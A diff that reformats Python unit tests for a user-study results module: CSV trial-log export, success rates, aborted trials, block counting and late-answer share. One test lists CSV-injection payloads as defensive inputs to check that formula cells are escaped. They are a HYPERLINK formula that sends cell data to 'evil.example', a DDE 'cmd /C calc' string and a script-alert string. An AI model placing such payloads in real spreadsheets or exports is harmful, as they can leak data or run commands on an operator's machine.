@@ -54,8 +54,16 @@ def test_agent_results_counts_only_judged_trials():
 
 
 def test_csv_has_header_and_json_cells():
-    rows = [{"id": 1, "agent": "a", "instruction": 'pick "the" cube, please', "points_px": [[1.0, 2.0]],
-             "target": {"valid": False, "reason": "no_depth: x"}, "judgement": None}]
+    rows = [
+        {
+            "id": 1,
+            "agent": "a",
+            "instruction": 'pick "the" cube, please',
+            "points_px": [[1.0, 2.0]],
+            "target": {"valid": False, "reason": "no_depth: x"},
+            "judgement": None,
+        }
+    ]
     parsed = list(csv.reader(io.StringIO(trial_log_csv(rows))))
     assert tuple(parsed[0]) == TRIAL_LOG_COLUMNS
     rec = dict(zip(parsed[0], parsed[1]))
@@ -67,11 +75,19 @@ def test_csv_cells_are_text_never_formulas():
     # CSV injection (OWASP "CSV Injection"): a participant types an instruction, the operator opens the
     # CSV in a spreadsheet, and a cell starting with = + - @ (or tab / CR) would run as a formula.
     # Such cells get a leading apostrophe; commas, quotes and newlines round-trip through the csv module.
-    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-               "\t=1+1", "\r=1+1"]
+    hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+    ]
     plain = 'pick up the "red", cube\nthen stop; <script>alert(1)</script>'
-    rows = [{"id": i + 1, "instruction": s, "raw_answer": s, "agent": "a", "frame_index": -1,
-             "points_px": [[-0.5, 2.0]]} for i, s in enumerate(hostile + [plain])]
+    rows = [
+        {"id": i + 1, "instruction": s, "raw_answer": s, "agent": "a", "frame_index": -1, "points_px": [[-0.5, 2.0]]}
+        for i, s in enumerate(hostile + [plain])
+    ]
     back = list(csv.DictReader(io.StringIO(trial_log_csv(rows))))
     assert [r["instruction"] for r in back] == ["'" + s for s in hostile] + [plain]
     assert [r["raw_answer"] for r in back] == ["'" + s for s in hostile] + [plain]
@@ -82,7 +98,10 @@ def test_csv_cells_are_text_never_formulas():
 def test_trial_log_names_participants_and_counts_blocks_from_one():
     from pointlab.bridge.study.results import trial_log
 
-    trials = [{"id": 1, "participant_id": 7, "block": 0, "agent": "a"}, {"id": 2, "participant_id": None, "block": None}]
+    trials = [
+        {"id": 1, "participant_id": 7, "block": 0, "agent": "a"},
+        {"id": 2, "participant_id": None, "block": None},
+    ]
     log = trial_log(trials, [{"id": 7, "label": "P1"}])
     assert [(r["participant"], r["block"]) for r in log] == [("P1", 1), (None, None)]
     header, row = list(csv.reader(io.StringIO(trial_log_csv(trials[:1], [{"id": 7, "label": "P1"}]))))[:2]
@@ -104,11 +123,22 @@ def test_cohens_kappa_by_hand():
 
 def test_aborted_trials_are_left_out_of_every_rate_and_counted():
     def t(j, outcome, auto=None, stage=None):
-        return {"agent": "a", "judgement": j, "outcome": outcome, "sim_success": None, "failure_stage": stage,
-                "auto_check": None if auto is None else {"success": auto, "method": "depth"}}
+        return {
+            "agent": "a",
+            "judgement": j,
+            "outcome": outcome,
+            "sim_success": None,
+            "failure_stage": stage,
+            "auto_check": None if auto is None else {"success": auto, "method": "depth"},
+        }
 
-    trials = [t("succeeded", "succeeded", True), t("failed", "failed", False, "grasp"), t(None, "aborted", None, "aborted"),
-              t(None, "aborted", None, "aborted"), t("succeeded", "succeeded", False)]
+    trials = [
+        t("succeeded", "succeeded", True),
+        t("failed", "failed", False, "grasp"),
+        t(None, "aborted", None, "aborted"),
+        t(None, "aborted", None, "aborted"),
+        t("succeeded", "succeeded", False),
+    ]
     (a,) = agent_results(["a"], trials, [])
     assert (a["n_trials"], a["n_aborted"], a["n_judged"], a["n_succeeded"]) == (5, 2, 3, 2)
     assert a["success_rate"] == pytest.approx(2 / 3)
@@ -129,16 +159,24 @@ def test_a_block_whose_repeats_ran_out_is_short_and_every_page_counts_it_the_sam
 
     study = {"trials_per_agent": 2, "max_repeats": 1, "agents": ["a", "b"]}
     participants = [{"id": 7, "label": "P1", "agent_order": ["a", "b"]}]
-    rows = [{"id": i, "participant_id": 7, "block": 0, "agent": "a", "outcome": o, "judgement": j}
-            for i, (o, j) in enumerate([("aborted", None), ("succeeded", "succeeded"), ("aborted", None),
-                                        ("aborted", None)], 1)]
-    rows += [{"id": 10 + i, "participant_id": 7, "block": 1, "agent": "b", "outcome": "failed", "judgement": "failed"}
-             for i in range(2)]
+    rows = [
+        {"id": i, "participant_id": 7, "block": 0, "agent": "a", "outcome": o, "judgement": j}
+        for i, (o, j) in enumerate(
+            [("aborted", None), ("succeeded", "succeeded"), ("aborted", None), ("aborted", None)], 1
+        )
+    ]
+    rows += [
+        {"id": 10 + i, "participant_id": 7, "block": 1, "agent": "b", "outcome": "failed", "judgement": "failed"}
+        for i in range(2)
+    ]
     blocks = study_blocks(study, rows, participants)
     assert [(b["block"], b["kept"], b["aborted"], b["slots_used"], b["short"]) for b in blocks] == [
-        (1, 1, 3, 3, True), (2, 2, 0, 2, False)]
-    step = next_step(n_blocks=2, trials_per_agent=2, trials=rows, surveyed_blocks=[0, 1], started_blocks=[0, 1],
-                     max_repeats=1)
+        (1, 1, 3, 3, True),
+        (2, 2, 0, 2, False),
+    ]
+    step = next_step(
+        n_blocks=2, trials_per_agent=2, trials=rows, surveyed_blocks=[0, 1], started_blocks=[0, 1], max_repeats=1
+    )
     assert step.kind == "done"  # the short block's slots are used up: the participant moved on
     agents = {r["agent"]: r for r in agent_results(["a", "b"], rows, [], blocks)}
     assert (agents["a"]["n_short_blocks"], agents["a"]["n_judged"], agents["a"]["n_aborted"]) == (1, 1, 3)
@@ -148,9 +186,11 @@ def test_a_block_whose_repeats_ran_out_is_short_and_every_page_counts_it_the_sam
 
 
 def test_late_share_counts_answers_after_their_drawn_reveal_time():
-    rows = [{"agent": "human", "outcome": "failed", "timings_s": {"reveal": 12.0, "ready": 14.5}},
-            {"agent": "human", "outcome": "failed", "timings_s": {"reveal": 20.0, "ready": 9.0}},
-            {"agent": "human", "outcome": "aborted", "timings_s": {"reveal": 15.0}},  # no answer: not counted
-            {"agent": "model", "outcome": "failed", "timings_s": {"reveal": 11.0, "ready": 1.2}}]
+    rows = [
+        {"agent": "human", "outcome": "failed", "timings_s": {"reveal": 12.0, "ready": 14.5}},
+        {"agent": "human", "outcome": "failed", "timings_s": {"reveal": 20.0, "ready": 9.0}},
+        {"agent": "human", "outcome": "aborted", "timings_s": {"reveal": 15.0}},  # no answer: not counted
+        {"agent": "model", "outcome": "failed", "timings_s": {"reveal": 11.0, "ready": 1.2}},
+    ]
     by = {r["agent"]: r for r in agent_results(["human", "model"], rows, [])}
     assert by["human"]["late_share"] == 0.5 and by["model"]["late_share"] == 0.0
